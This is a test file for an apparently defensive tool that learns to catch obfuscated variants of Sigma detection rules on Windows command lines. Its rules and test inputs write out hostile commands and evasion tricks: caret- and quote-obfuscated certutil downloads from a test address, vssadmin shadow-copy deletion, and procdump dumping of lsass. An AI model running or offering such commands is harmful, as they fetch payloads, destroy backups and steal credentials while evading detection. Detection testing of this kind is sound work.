import { expect, test } from "bun:test"
import { mkdtempSync, rmSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { parseDocuments } from "#shared/sigma/documents.ts"
import type { EvasionModel } from "./model.ts"
import { loadModel, saveModel } from "./model-file.ts"
import { type RuleTexts, ruleTextsOf } from "./rule-texts.ts"
import { openKind, openScorer } from "./scorer.ts"
import { type Benign, trainEvasion } from "./train.ts"

const rule = (id: string, image: string, texts: string) => `
title: ${id}
id: ${id}
level: high
logsource: {product: windows, category: process_creation}
detection:
  image: [{Image|endswith: '\\${image}'}, {OriginalFileName: ${image}}]
  line: {CommandLine|contains|all: [${texts}]}
  not_ours: {CommandLine|contains: harmless}
  condition: image and line and not not_ours
`

const rules: RuleTexts[] = [
  rule("download", "certutil.exe", "urlcache, http"),
  rule("shadows", "vssadmin.exe", "delete, shadows"),
  rule("dump", "procdump.exe", "-ma, lsass"),
].flatMap((text) => ruleTextsOf(parseDocuments("x.yml", text, [])[0]!, new Map()) ?? [])

const words = "copy move list open build start report invoice notes backup index image page".split(
  " ",
)
const benign: Benign[] = Array.from({ length: 900 }, (_, i) => ({
  text: `${words[i % 13]}.exe --${words[(i * 7) % 13]} C:\\Users\\u${i % 41}\\${words[(i * 5) % 13]}${i}.txt`,
  kind: "process_creation",
}))

const train = (own = rules, seed = 1): EvasionModel =>
  trainEvasion(own, benign, { seed, now: () => 0, falseShareMax: 0.001, told: () => {} })

const model = train()
const score = openScorer(model)

test.each([
  ["cert^util -url^cache -f ht^tp://192.0.2.1/a a", "download"],
  ["CertUtil  /urlcache  /f  http://192.0.2.1/a  a", "download"],
  ['vssadmin del""ete sha""dows /all', "shadows"],
  ["procdump64 /ma lsass.exe", "dump"],
])("%s evades the rule %s, and is found", (text, id) => {
  const { outcome, rules } = score(text, "process_creation")
  expect([outcome, rules[0]?.id]).toEqual(["malicious", id])
})

test.each(["copy.exe --list C:\\Users\\u1\\notes.txt", "vssadmin list", "certutil -hashfile a"])(
  "%s is not malicious",
  (text) => {
    expect(score(text, "process_creation").outcome).not.toBe("malicious")
  },
)

test("what shares nothing with what was learnt is unknown", () => {
  expect(score("zzqx 99 ßßß", "process_creation").outcome).toBe("unknown")
})

test("nothing is taken from what stands under not", () => {
  expect(JSON.stringify(rules)).not.toContain("harmless")
})

test("a calibration on few texts says that it is a guess", () => {
  expect(model.kinds[0]!.calibration.isGuess).toBe(true)
})

test("the line is drawn on a site's own texts, not on those of others learnt beside", () => {
  const own = benign.slice(0, 300)
  const options = { seed: 1, now: () => 0, falseShareMax: 0.001, told: () => {} }
  const { calibration, hashes } = trainEvasion(rules, own, { ...options, beside: benign }).kinds[0]!
  expect([calibration.texts, calibration.isGuess]).toEqual([300, true])
  expect(hashes.length).toBeGreaterThan(trainEvasion(rules, own, options).kinds[0]!.hashes.length)
})

test("the same seed gives the same model", () => {
  expect(train().kinds[0]!.linear.weights).toEqual(model.kinds[0]!.linear.weights)
})

test("a model read from its files scores the same, as does the ONNX runtime", async () => {
  const folder = mkdtempSync(join(tmpdir(), "vedette-evasion-"))
  try {
    const path = join(folder, "model.onnx")
    await saveModel(model, path)
    const loaded = await loadModel(path)
    const text = "cert^util -urlcache -f http://192.0.2.1/a"
    expect(openScorer(loaded)(text, "process_creation")).toEqual(score(text, "process_creation"))

    const kind = openKind(loaded.kinds[0]!)
    const vector = kind.vectorOf(text)
    const dense = new Float32Array(loaded.kinds[0]!.linear.weights.length)
    for (const [i, column] of vector.columns.entries()) dense[column] = vector.values[i]!
    expect(await runtimeScore(path, dense)).toBeCloseTo(kind.decide(vector), 5)
  } finally {
    rmSync(folder, { recursive: true })
  }
})

test("a score is what the linear model says of the text's vector, against the threshold", () => {
  const kind = openKind(model.kinds[0]!)
  for (const text of ["cert^util -urlcache -f http://192.0.2.1/a", "copy.exe --list a a a", ""]) {
    const decision = kind.decide(kind.vectorOf(text))
    expect(kind.score(text).score).toBeCloseTo(decision - model.kinds[0]!.calibration.threshold, 5)
  }
})

test("the tokens of a text are what of the nearest rule stands in it, as shells read it", () => {
  const { tokens } = score("cert^util -url^cache -f ht^tp://192.0.2.1/a", "process_creation")
  expect([...tokens!].sort()).toEqual(["certutil", "http", "urlcache"])
})

test("a text without a near rule has no tokens", () => {
  expect(score("copy.exe --list a", "process_creation").tokens).toEqual([])
})

test("files that do not belong together are refused", async () => {
  const folder = mkdtempSync(join(tmpdir(), "vedette-evasion-"))
  try {
    await saveModel(model, join(folder, "a"))
    await saveModel(train(rules.slice(1)), join(folder, "b"))
    await Bun.write(join(folder, "a"), Bun.file(join(folder, "b")))
    expect(loadModel(join(folder, "a"))).rejects.toThrow("is not the file that")
  } finally {
    rmSync(folder, { recursive: true })
  }
})

/** In a process of its own: once the runtime is loaded, Workers of its process are heard no more. */
async function runtimeScore(path: string, dense: Float32Array): Promise<number> {
  const script = `
    import { env, InferenceSession, Tensor } from "onnxruntime-web/wasm"
    env.wasm.numThreads = 1
    const session = await InferenceSession.create(await Bun.file(process.argv.at(-1)).bytes())
    const dense = new Float32Array(await Bun.stdin.arrayBuffer())
    const input = { process_creation: new Tensor("float32", dense, [1, dense.length]) }
    console.log((await session.run(input)).process_creation_score.data[0])`
  const child = Bun.spawn([process.execPath, "-e", script, path], {
    stdin: new Blob([dense.buffer as ArrayBuffer]),
    cwd: import.meta.dir,
  })
  return Number(await new Response(child.stdout).text())
}
